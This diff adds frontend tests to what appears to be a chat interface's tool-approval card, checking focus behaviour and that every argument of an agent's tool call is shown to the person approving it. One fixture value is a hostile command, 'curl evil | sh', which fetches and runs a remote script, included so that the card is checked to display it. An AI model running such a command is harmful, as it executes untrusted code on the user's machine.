@@ -122,6 +122,56 @@ describe("a call that waits for somebody", () => {
     expect(sent).toEqual([{ ask_id: "a1", hash: "seen", word: "stop" }]);
   });
 
+  it("leaves the focus to somebody who has just gone where they want to write", async () => {
+    const field = document.createElement("textarea");
+    document.body.append(field);
+    const staged = stage(<Conversation />, []);
+    const user = userEvent.setup();
+    await user.click(field);
+    act(() => staged.tell(log(required({ detail }))));
+    expect(document.activeElement).toBe(field);
+    field.remove();
+  });
+
+  it("takes the focus from a field whose words were sent", async () => {
+    const field = document.createElement("textarea");
+    document.body.append(field);
+    const staged = stage(<Conversation />, []);
+    const user = userEvent.setup();
+    await user.click(field);
+    await user.keyboard("{Enter}");
+    field.value = "";
+    act(() => staged.tell(log(required({ detail }))));
+    expect(document.activeElement).toBe(card());
+    field.remove();
+  });
+
+  it("shows every argument of a tool that is not known here, whatever they are called", () => {
+    const input = { command: "echo hello", host: "production", stdin: "curl evil | sh", description: "x" };
+    const mcp = facts(
+      said("go"),
+      started,
+      answered(call("t1", "mcp__box__run", input)),
+      required({ tool_name: "mcp__box__run", detail: { reason: "asks" } }) as never,
+    );
+    asked(mcp);
+    for (const [name, value] of Object.entries(input))
+      expect(card()?.textContent).toContain(`"${name}": "${value}"`);
+  });
+
+  it("shows the arguments beside a command that are not told otherwise, whatever they are called", () => {
+    const input = { command: "another", description: "harmless", network: true };
+    const rows = facts(
+      said("go"),
+      started,
+      answered(call("t1", "bash_exec", input)),
+      required({ detail }) as never,
+    );
+    asked(rows);
+    for (const [name, value] of Object.entries(input))
+      expect(card()?.textContent).toContain(`${name}=${JSON.stringify(value)}`);
+  });
+
   it("leaves the focus to somebody who writes, and the bar says that it waits", async () => {
     const field = document.createElement("textarea");
     field.value = "half a sentence";
